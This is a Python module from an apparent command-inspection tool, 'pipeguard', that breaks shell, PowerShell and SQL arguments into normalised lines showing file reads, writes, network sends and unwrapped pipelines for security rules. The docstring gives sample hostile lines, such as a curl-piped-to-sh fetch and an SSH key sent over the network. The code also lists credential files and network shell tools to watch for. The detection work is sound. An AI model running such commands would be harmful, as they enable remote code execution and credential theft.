"""What arguments would do: one plain line for each command, file, and statement in them.

The reading that rules about commands are run over (core.views names it `acts`)::

    $ curl -s https://x.example/a | $ sh      a pipeline, without quotes, wrappers and tricks
    < ~/.ssh/id_rsa                           a file that a command reads
    > /etc/cron.d/x                           a file that one writes
    ^ ~/.ssh/id_rsa                           a file, or ENV, that leaves by the network
    PS iex irm https://x.example/a            a line for PowerShell or cmd
    SQL drop table x                          a statement of a database

What stands in quotes for a program that only prints or keeps it is no command, so a commit's
message or a search for one is not taken for it. Knows what programs do with their arguments, and
not which of it is bad: that is for rules.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from fnmatch import fnmatchcase

from pipeguard.core.shell import GAP, MAX_VALUE, Command, Pipeline, Shell, output
from pipeguard.core.statements import statements
from pipeguard.core.windows import is_windows, windows_lines

MAX_LINE = 3000  # characters
MAX_TEXT = 65_536  # characters of one argument that are read
MAX_LINES = 4000

SHELLS = frozenset("sh bash zsh dash ksh ash fish csh tcsh rbash mksh".split())
_INTERPRETERS = re.compile(
    r"(?:python[0-9.]*|pypy3?|perl[0-9.]*|node|nodejs|ruby|php[0-9.]*|deno|bun|lua|awk|gawk|osascript)\Z"
)
# Programs that run another one: their options that take a value, and how many words come first.
_WRAPPERS: dict[str, tuple[str, int]] = {
    "sudo": ("ugpCrtUDhRT", 0), "doas": ("uC", 0), "env": ("uC", 0), "nohup": ("", 0),
    "time": ("fo", 0), "timeout": ("sk", 1), "nice": ("n", 0), "ionice": ("cnp", 0),
    "command": ("", 0), "exec": ("a", 0), "builtin": ("", 0), "setsid": ("", 0),
    "stdbuf": ("ioe", 0), "xargs": ("InPdLaEs", 0), "busybox": ("", 0), "toybox": ("", 0),
    "watch": ("n", 0), "chronic": ("", 0), "unbuffer": ("", 0), "proxychains": ("f", 0),
    "proxychains4": ("f", 0), "torsocks": ("", 0), "torify": ("", 0), "taskset": ("", 1),
    "flock": ("wE", 1), "pkexec": ("", 0), "parallel": ("jIN", 0), "strace": ("eopsE", 0),
    "then": ("", 0), "do": ("", 0), "else": ("", 0), "!": ("", 0), "{": ("", 0), "if": ("", 0),
    "elif": ("", 0), "while": ("", 0), "until": ("", 0), "coproc": ("", 0), "trap": ("", 0),
    "start": ("", 0), "rtk": ("", 0), "catchsegv": ("", 0), "chrt": ("", 1), "setarch": ("", 1),
    "faketime": ("", 1), "systemd-run": ("puM", 0), "nocorrect": ("", 0), "noglob": ("", 0),
}  # fmt: skip
_READERS = frozenset(
    "cat bat less more head tail strings xxd hexdump od base64 base32 nl tac sort uniq cut paste "
    "rev fold split tar zip 7z gzip bzip2 xz zstd gpg openssl jq yq source . cp mv scp rsync "
    "rclone install diff cmp comm wc vi vim nano emacs view column iconv dd type gc get-content "
    "md5sum shasum sha256sum uuencode ccat pr expand look dos2unix sqlite3 xargs ssh-keygen keytool plutil defaults mail mutt ftp tftp sftp s3cmd "
    "gsutil azcopy aws mc nc ncat socat readarray mapfile ln curl wget http xclip pbcopy".split()
)
_TELL_ENVIRONMENT = frozenset("env printenv set export declare typeset compgen".split())
_PATTERN_FIRST = frozenset("grep egrep fgrep rg ag ack zgrep sed awk gawk perl".split())
_SENDERS = re.compile(
    r"(?:curl|wget|nc|ncat|netcat|socat|ssh|scp|sftp|rsync|rclone|ftp|tftp|lftp|telnet|mail|mailx|"
    r"mutt|sendmail|ssmtp|msmtp|swaks|http|https|xh|aria2c|nslookup|dig|host|ping|drill|kdig|"
    r"gsutil|azcopy|s3cmd|croc|magic-wormhole|wormhole|transfer|termbin|sprunge|pastebinit|gist|"
    r"rsh|websocat|wscat|iodine|dnscat2?|mosquitto_pub|kcat|kafkacat|nats|lynx|w3m|links|httpie|"
    r"whois|finger|busybox-nc|smbclient|cadaver|restic|rustic|borg|duplicity|pscp|plink)\Z"
)
_LAST_IS_TARGET = frozenset("cp mv install ln rsync scp".split())
_OPERANDS_LAST = frozenset("rm chmod chown chgrp shred unlink srm rmdir".split())
_TEARABLE = (
    SHELLS
    | _READERS
    | _OPERANDS_LAST
    | _PATTERN_FIRST
    | frozenset("curl wget nc ncat netcat socat whoami id uname powershell pwsh cmd ping env eval "
                "exec printenv kill dd mkfs find ls python python3 perl passwd iex".split())
)
# Files that a pattern of the shell may mean.
_FILES = (
    "/etc/passwd /etc/shadow /etc/sudoers /etc/gshadow /etc/hosts /bin/sh /bin/bash /bin/cat "
    "/bin/rm /bin/nc /bin/ls /bin/dd /bin/chmod /bin/mv /bin/cp /bin/wget /bin/curl /bin/base64 "
    "/bin/tail /bin/head /bin/python3 /bin/python /bin/perl /bin/id /bin/env /bin/tac /bin/zsh "
    "/bin/dash /bin/netcat /bin/ncat /bin/nc.traditional /bin/less /bin/more /bin/xxd /bin/kill "
    "/usr/bin/curl /usr/bin/wget /usr/bin/cat /usr/bin/nc /usr/bin/base64 /usr/bin/python3 "
    "/usr/bin/perl /usr/bin/id /usr/bin/env /usr/bin/rm /usr/bin/bash /usr/bin/sh /usr/bin/head "
    "/usr/bin/tail /usr/bin/tac /usr/bin/xxd /usr/bin/ncat /usr/bin/python /usr/bin/find "
    "~/.ssh/id_rsa ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.bash_history ~/.bashrc "
    "/root/.ssh/id_rsa /proc/self/environ /dev/sda /dev/tcp"
).split()


def command_lines(text: str) -> list[str]:
    """The lines of a command line or a script."""
    reader = _Acts()
    reader.script(text[:MAX_TEXT])
    reader.lines += _torn(text[:MAX_TEXT])
    if _PRELOADS.search(text):
        reader.lines.append("ENV LD_PRELOAD=")
    if is_windows(text):
        for line, script in windows_lines(text[:MAX_TEXT]):
            reader.lines.append(line)
            if script:
                reader.script(script)
    return reader.lines[:MAX_LINES]


def argument_lines(words: Sequence[str]) -> list[str]:
    """The lines of a command that is given as a list of words."""
    reader = _Acts()
    reader.pipelines([[Command([word[:MAX_TEXT] for word in words[:1000]], [], None)]])
    text = " ".join(words)[:MAX_TEXT]
    if is_windows(text):
        reader.lines += [line for line, _ in windows_lines(text)]
    return reader.lines[:MAX_LINES]


def code_lines(text: str) -> list[str]:
    """The lines of the commands that a program hands to a shell."""
    reader = _Acts()
    reader.code(text[:MAX_TEXT])
    return reader.lines[:MAX_LINES]


_PRELOADS = re.compile(r"\bLD_(?:PRELOAD|AUDIT)=[^\s;&|]|\bDYLD_INSERT_LIBRARIES=[^\s;&|]")
_TORN = re.compile(
    r"(?:^|[;|&(`\n]|\$\()\s{0,8}(?:sudo\s{1,4})?((?:[A-Za-z0-9_./-]{0,20}(?:''|\"\"|\\[A-Za-z]|'[A-Za-z]{1,6}'"
    r"|\"[A-Za-z]{1,6}\"|\$[@*]|\$\{[A-Za-z@*]{1,8}\}|\$\{[@*]\})){1,20}[A-Za-z0-9_.-]{0,20})(?=[\s;|&)<>`]|\Z)"
)


def _torn(text: str) -> list[str]:
    """A line where a command's name is written in pieces."""
    found = []
    for match in _TORN.finditer(text):
        word = re.sub(r"''|\"\"|['\"\\]|\$\{?[@*]\}?|\$\{[A-Za-z]{1,8}\}", "", match[1])
        name = _name(word)
        quoted = match[1][:1] in "'\"" and match[1][1:-1] == word
        if not quoted and (name in _TEARABLE or _INTERPRETERS.match(name)):
            found.append(f"ODD torn {name}")
    return found[:5]


class _Acts:
    """Collects the lines of one argument."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.shell = Shell(self._substitution)
        self.folder = ""  # where `cd` led
        self.read: list[str] = []
        self.substituted: list[str] = []  # files that substitutions read
        self.fetched: list[str] = []  # files and folders that came from elsewhere
        self.decoded = False  # a substitution was decoded
        self.depth = 0
        self.sent = False

    def script(self, text: str) -> None:
        self.pipelines(self.shell.pipelines(text))

    def code(self, text: str) -> None:
        """A program in another language: what it gives to a shell."""
        for match in _CALLS_SHELL.finditer(text):
            script = match[2] if match[2] is not None else match[4]
            if match[3] is not None:
                words = [one or two for one, two in _STRINGS.findall(match[3])]
                self.pipelines([[Command(words, [], None)]])
            elif script:
                self.script(script.replace("\\'", "'").replace('\\"', '"'))
        if self.shell.steps > 0:
            flat = " ".join(text.split())
            self.lines.append("CODE " + flat[:MAX_LINE])

    def _substitution(self, found: list[Pipeline]) -> None:
        first = len(self.read)
        self.pipelines(found)
        self.substituted += self.read[first:]
        last = found[-1][-1].words if found else []
        self.decoded = self.decoded or bool(last and _name(last[0]) in _DECODERS)

    def pipelines(self, found: list[Pipeline]) -> None:
        if self.depth > 8 or len(self.lines) > MAX_LINES:
            return
        self.depth += 1
        for pipeline in found:
            first, known = len(self.read), len(self.lines)
            sent, self.sent = self.sent, False
            shown = [line for command in self._run(pipeline) if (line := self._one(command))]
            if shown:
                self.lines.insert(known, " | ".join(shown)[:MAX_LINE])
            if self.sent:
                inner = self.substituted if any("$(" in line for line in shown) else []
                self.lines += [f"^ {path}" for path in dict.fromkeys(self.read[first:] + inner)]
            self.sent = sent or self.sent
        self.depth -= 1

    def _run(self, pipeline: Pipeline) -> Iterator[Command]:
        """The commands of a pipeline, unwrapped; what is printed into a shell is read as well."""
        for at, command in enumerate(pipeline):
            words, wrapped = _unwrapped(command.words)
            given = command.given
            if given is None and at:
                given = output(pipeline[:at])
            if words:
                plain = [_matched(word) for word in words]
                self.lines += [f"ODD glob {new}" for old, new in zip(words, plain, strict=True) if old != new]
                words = plain
                if wrapped and given is not None and len(given) < 4000:
                    words = words + given.split()
                name = _name(words[0])
                if given is not None and name in SHELLS and not _script_of(words):
                    self.script(given)
                elif given is not None and _INTERPRETERS.match(name):
                    self.code(given)
                elif given is not None and name in _CLIENTS:
                    self.lines += statements(given)
            yield Command(words, command.redirects, given)

    def _one(self, command: Command) -> str:
        words = command.words
        for operator, target in command.redirects:
            path = self._resolved(target)
            if operator.startswith("<"):
                self._reads(path)
            elif words and _name(words[0]) in ("curl", "wget", "base64", "xxd", "openssl"):
                self._fetches(path)
            else:
                self.lines.append(f"> {path}")
        targets = "".join(
            f" {operator[0]} {_flat(self._resolved(target))}" for operator, target in command.redirects
        )
        if not words:
            return f"${targets}" if targets else ""
        name = _name(words[0])
        self._nested(name, words)
        self._files(name, words)
        self._runs(name, words)
        if _SENDERS.match(name) or any("/dev/tcp/" in t for _, t in command.redirects):
            self.sent = True
        if name in ("aws", "gcloud", "az", "git", "gh", "docker", "kubectl") and _UPLOADS.search(
            " ".join(words[1:6])
        ):
            self.sent = True
        if command.given and name in ("kubectl", "oc", "docker", "podman", "aws", "gcloud", "az"):
            words = [*words, GAP.join(command.given.split())[:1000]]
        if name == "rm":
            return self._removal(words) + targets
        if name == "cd" and len(words) > 1:
            self.folder = self._resolved(words[-1])
        rest = [word for word in words[1:] if word]
        if name in _OPERANDS_LAST:
            rest.sort(key=lambda word: not word.startswith("-"))
            rest = [w if w.startswith("-") or n == 0 else self._resolved(w) for n, w in enumerate(rest)]
        return "$ " + " ".join([name, *map(_flat, rest)]) + targets

    def _removal(self, words: list[str]) -> str:
        """`rm`, with a line for each thing that it removes."""
        options = [word for word in words[1:] if word.startswith("-") and word != "-"]
        whole = any(
            re.fullmatch(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive", word) for word in options
        )
        name = "rm -r" if whole else "rm"
        things = [self._resolved(word) for word in words[1:] if not word.startswith("-") and word]
        self.lines += [f"$ {name} {_flat(thing)}" for thing in things]
        return " ".join([f"$ {name} of", *map(_flat, things)])

    def _nested(self, name: str, words: list[str]) -> None:
        """The scripts and programs that a command is given as an argument."""
        if self.depth > 6:
            return
        if name == "eval":
            self.script(" ".join(words[1:]))
        if name in ("su", "runuser", "script", "watch", "flock", "docker", "podman", "kubectl"):
            _each(words, ("-c", "--command"), self.script)
        if name == "ssh":
            rest = _operands(words[1:], "bcDEeFIiJLlmOopQRSWw")
            if len(rest) > 1:
                self.script(" ".join(rest[1:]))
        if name == "find":
            self._find(words)
        for at, word in enumerate(words[:-1]):
            inner = _name(word)
            if inner in SHELLS:
                script = _script_of(words[at:])
                if script:
                    self.script(script)
                break
            if _INTERPRETERS.match(inner) and (
                at == 0 or words[0] in ("docker", "podman", "kubectl", "uv", "poetry", "npx")
            ):
                flags = [w for w in words[at + 1 : at + 8]]
                self_contained = [f[2:] for f in flags if re.match(r"-[ceE].{8}", f) and " " in f]
                for code in self_contained[:1]:
                    self.code(code)
                for index, flag in enumerate(flags[:-1]):
                    if re.fullmatch(r"-[a-zA-Z]*[cerE]|--eval|-r|eval|--print|-p|-pe|-ne", flag):
                        self.code(flags[index + 1])
                        break
                else:
                    if inner in ("awk", "gawk") and len(words) > at + 1:
                        self.code(words[at + 1])
                break
        if name in _CLIENTS:
            self._client(name, words)

    def _runs(self, name: str, words: list[str]) -> None:
        """A line where what came from elsewhere, or was decoded, is run."""
        inline = name == "eval" or (name in SHELLS and bool(_script_of(words)))
        if inline and self.decoded:
            self.lines.append("RUN decoded")
        program = words[0]
        if name in SHELLS or name in ("source", ".") or _INTERPRETERS.match(name):
            program = next((word for word in words[1:] if not word.startswith("-")), "")
        if "/" in program or name != program.lower() or name.endswith((".sh", ".py", ".bin")):
            path = self._resolved(program)
            if any(path == one or path.startswith(one + "/") for one in self.fetched):
                self.lines.append(f"RUN {path}")

    def _client(self, name: str, words: list[str]) -> None:
        if name == "redis-cli":
            rest = _operands(words[1:], "hpanu")
            self.lines.append("SQL " + " ".join(rest)[:MAX_LINE])
        elif name == "sqlite3":
            for word in _operands(words[1:], "")[1:]:
                self.lines += statements(word)
        else:
            _each(words, _CLIENTS[name], lambda text: self.lines.extend(statements(text)))

    def _find(self, words: list[str]) -> None:
        roots = [word for word in words[1:] if not word.startswith(("-", "(", "!"))]
        first = next((at for at, word in enumerate(words) if at and word.startswith("-")), 0)
        roots = words[1:first] if first > 1 else roots[:1] or ["."]
        narrow = any(word in _NARROWS for word in words)
        for at, word in enumerate(words):
            if word in ("-exec", "-execdir", "-ok", "-okdir"):
                inner = []
                for one in words[at + 1 :]:
                    if one in (";", "+"):
                        break
                    inner.append(one)
                for root in roots[:8] if not narrow else []:
                    done = [root if one == "{}" else one for one in inner]
                    if done and _name(done[0]) == "rm":
                        done.insert(1, "-r")
                    self.pipelines([[Command(done, [], None)]])
                if narrow:
                    self.pipelines([[Command(inner, [], None)]])
            elif word == "-delete" and not narrow:
                self.lines += [f"$ rm -r {_flat(self._resolved(root))}" for root in roots[:8]]

    def _files(self, name: str, words: list[str]) -> None:
        """The files that a command reads and writes."""
        rest = words[1:]
        operands = [word for word in rest if word and not word.startswith("-")]
        if name in ("scp", "sftp", "rsync"):
            operands = _without_values(rest)
        if name in _TELL_ENVIRONMENT and (len(words) == 1 or words[1:] in (["-p"], ["-x"], ["-0"])):
            self._reads("ENV")
        if name in ("tee", "truncate") or (name == "sed" and any(w.startswith("-i") for w in rest)):
            self.lines += [f"> {self._resolved(word)}" for word in operands[:20]]
        elif name in _LAST_IS_TARGET and len(operands) > 1:
            self.lines.append(f"> {self._resolved(operands[-1])}")
            if ":" in operands[-1].partition("/")[0] and name in ("scp", "rsync"):
                self.sent = True
            operands = operands[:-1]
        if name == "git" and "clone" in operands[:3]:
            rest = operands[operands.index("clone") + 1 :]
            folder = rest[-1] if rest else ""
            if "://" in folder or "@" in folder:
                folder = folder.rstrip("/").rpartition("/")[2].removesuffix(".git")
            self.fetched.append(self._resolved(folder or "?"))
        if name == "dd":
            for word in operands:
                option, _, path = word.partition("=")
                if option == "of":
                    self.lines.append(f"> {path}")
                elif option == "if":
                    self._reads(path)
        if name in ("curl", "wget", "http", "https", "xh", "aria2c", "httpie"):
            self._transfer(name, words)
        elif name in _PATTERN_FIRST:
            for word in operands[1:40]:
                self._reads(self._resolved(word))
        elif name in _READERS:
            for word in operands[:40]:
                self._reads(self._resolved(word))

    def _transfer(self, name: str, words: list[str]) -> None:
        for at, word in enumerate(words):
            following = words[at + 1] if at + 1 < len(words) else ""
            if word in ("-o", "--output", "-O", "--output-document") and following:
                if not (name == "curl" and word == "-O") and following != "-":
                    self._fetches(following)
            elif (name == "wget" or any(re.fullmatch("-[a-zA-Z]*O", w) for w in words)) and re.match(r"(?:https?|ftp)://", word):
                self.fetched.append(self._resolved(re.split(r"[?#]", word)[0].rpartition("/")[2]))
            elif match := re.fullmatch(r"-[a-zA-Z]*o(.*)|--output=(.+)|-[a-zA-Z]*O(.+)", word):
                target = match[1] or match[2] or match[3] or following
                if target not in ("", "-"):
                    self._fetches(target)
            elif word in ("-T", "--upload-file", "--post-file", "--body-file"):
                self._reads(self._resolved(following))
            elif match := _FILE_OPTION.match(word):
                self._reads(self._resolved(match[1]))
            elif match := re.match(r"(?:[\w.\[\]-]{0,60}=)?[@<](?!-\Z)([^\s;,]{1,300})", word):
                self._reads(self._resolved(match[1]))
            elif match := re.match(r"file:/{1,3}(/?\S{1,300})", word):
                self._reads(self._resolved("/" + match[1].lstrip("/")))

    def _fetches(self, path: str) -> None:
        path = self._resolved(path)
        self.fetched.append(path)
        self.lines.append(f"> {path}")

    def _reads(self, path: str) -> None:
        if len(self.read) < 2000:
            self.read.append(path)
            self.lines.append(f"< {path}")

    def _resolved(self, path: str) -> str:
        """A path without detours, from the folder that the script went to."""
        path = path.removeprefix("file://")
        if self.folder and not re.match(r"[/~$]|[A-Za-z]:", path):
            path = f"{self.folder}/{path}"
        return tidy(path)


def tidy(path: str) -> str:
    """A path without detours and without what only says `all that is in it`."""
    path = _flat(path[:MAX_VALUE])
    if path.startswith("./") and path[2:3] not in ("", "*", ".", "/"):
        path = path[2:]
    if "/" in path:
        path = re.sub(r"/{2,}", "/", path) if "://" not in path else path
        path = re.sub(r"(?:/\.(?=/|\Z))+", "", path) or "/"
        for _ in range(8):
            shorter = re.sub(r"(\A|/)(?!\.\.?/)[^/~$]{1,80}/\.\.(?:/|\Z)", r"\1", path, count=1)
            if shorter == path:
                break
            path = shorter or "."
        while path.startswith("/../"):
            path = path[3:]
        if path == "/..":
            path = "/"
    everything = re.fullmatch(r"(/|.{1,300}?/)(?:\*|\.\*|\.\[!\.\]\*|\.\?\*|\*\.\*|\{,\.\}\*|\.)", path)
    if everything:
        path = everything[1]
    return path.rstrip("/") if len(path) > 1 and path.strip("/") else path


def _flat(word: str) -> str:
    """A word on a line of words: no space inside."""
    return re.sub(r"\s", GAP, word) if not word.isalnum() else word


def _name(word: str) -> str:
    name = re.split(r"[/\\]", word)[-1].lower() if not word.startswith("$(") else word
    return _flat(name.removesuffix(".exe"))


def _matched(word: str) -> str:
    """A pattern for file names as the file that it was written for."""
    if not (("?" in word or "[" in word or "*" in word) and word.startswith(("/", "~"))):
        return word
    if not re.search(r"[?\[]|/[^/*]{0,3}\*[^/*]{1,4}", word) or len(word) > 80:
        return word
    return next((file for file in _FILES if fnmatchcase(file, word)), word)


def _unwrapped(words: list[str]) -> tuple[list[str], bool]:
    """A command without those that only run it; True where its input becomes arguments."""
    wrapped = False
    for _ in range(12):
        if not words:
            break
        name = _name(words[0])
        if re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*=.*", words[0], re.DOTALL):
            words = words[1:]
            continue
        if name not in _WRAPPERS or len(words) == 1:
            break
        valued, first = _WRAPPERS[name]
        if name == "command" and words[1] in ("-v", "-V"):
            break
        wrapped = wrapped or name in ("xargs", "parallel")
        rest = _after_options(words[1:], valued)
        while name in ("env", "sudo") and rest and "=" in rest[0] and "/" not in rest[0].split("=")[0]:
            rest = rest[1:]
        if name == "env" and not rest:
            break
        if name == "trap" and rest and " " in rest[0]:
            words = ["sh", "-c", rest[0]]
            break
        words = rest[first:]
    return words, wrapped


def _after_options(words: list[str], valued: str) -> list[str]:
    at = 0
    while at < len(words) and words[at].startswith("-") and len(words[at]) > 1:
        option = words[at]
        at += 1
        if option == "--":
            break
        if not option.startswith("--") and option[-1] in valued and len(option) == 2:
            at += 1
    return words[at:]


def _operands(words: list[str], valued: str) -> list[str]:
    """What is left of arguments without options before and between them."""
    found: list[str] = []
    while words:
        rest = _after_options(words, valued)
        if found or not rest:
            return found + words
        found, words = rest[:1], rest[1:]
    return found


def _without_values(words: list[str]) -> list[str]:
    """The operands of `scp` and its like: a key that is used is not sent."""
    found: list[str] = []
    skip = False
    for word in words:
        if not skip and not word.startswith("-"):
            found.append(word)
        skip = not skip and word in ("-i", "-F", "-o", "-P", "-J", "-e", "-c", "-l", "-S", "-D")
    return found


def _script_of(words: list[str]) -> str:
    """What stands behind a shell's `-c`."""
    for at, word in enumerate(words[1:-1], 1):
        if re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*|--command", word):
            rest = [one for one in words[at + 1 :] if one != "--"]
            return rest[0] if rest else ""
        if not word.startswith(("-", "+")):
            break
    return ""


def _each(words: list[str], options: Sequence[str], act: object) -> None:
    for at, word in enumerate(words[1:], 1):
        for option in options:
            if word == option and at + 1 < len(words):
                act(words[at + 1])  # type: ignore[operator]
            elif option.startswith("--") and word.startswith(option + "="):
                act(word.partition("=")[2])  # type: ignore[operator]


_CLIENTS: dict[str, tuple[str, ...]] = {
    "psql": ("-c", "--command"), "mysql": ("-e", "--execute"), "mariadb": ("-e", "--execute"),
    "sqlite3": (), "redis-cli": (), "mongosh": ("--eval",), "mongo": ("--eval",),
    "clickhouse-client": ("-q", "--query"), "sqlcmd": ("-Q", "-q"), "bq": ("query",),
    "cockroach": ("-e", "--execute"), "snowsql": ("-q",), "duckdb": ("-c",), "cqlsh": ("-e",),
    "influx": ("-execute",), "isql": ("-Q",),
}  # fmt: skip
_NARROWS = frozenset(
    "-name -iname -path -ipath -regex -iregex -wholename -mtime -atime -ctime -mmin -amin -cmin "
    "-size -empty -newer -user -group -perm -links -inum -samefile".split()
)
_DECODERS = frozenset("base64 base32 xxd openssl rev uudecode gunzip zcat basenc".split())
_UPLOADS = re.compile(
    r"s3\S{0,4} (?:cp|mv|sync|rb)|storage (?:cp|blob|fs|rsync)|gist create|release upload|"
    r"secret set|put-object|copy|cp |push"
)
_FILE_OPTION = re.compile(
    r"(?:--(?:post|body|upload)-file=|--data(?:-binary|-raw|-urlencode|-ascii)?=@|--form=[\w.-]{0,60}=?@|"
    r"-[dFT](?:[\w.-]{0,60}=)?@?(?=[/~.]))@?([^\s;,]{1,300})"
)
_STRINGS = re.compile(r"'((?:[^'\\]|\\.){0,4000})'|\"((?:[^\"\\]|\\.){0,4000})\"")
_CALLS_SHELL = re.compile(
    r"(?:\b(?:system|popen[234]?|exec(?:sync|file(?:sync)?|[lv]p?e?)?|spawn(?:sync)?|run|call|"
    r"check_(?:call|output)|popen|shell_exec|passthru|proc_open|getoutput|getstatusoutput|"
    r"create_subprocess_shell|command|start|invoke|sh|bash)\s{0,4}\(\s{0,4}[rbfu]{0,2}"
    r"(?:(['\"]{1,3})((?:[^'\"\\\n]|\\.|(?!\1)['\"]){1,4000}?)\1|\[([^\]\n]{1,4000})\])"
    r"|(?<![\w`])`([^`\n]{2,2000})`)",
    re.IGNORECASE,
)
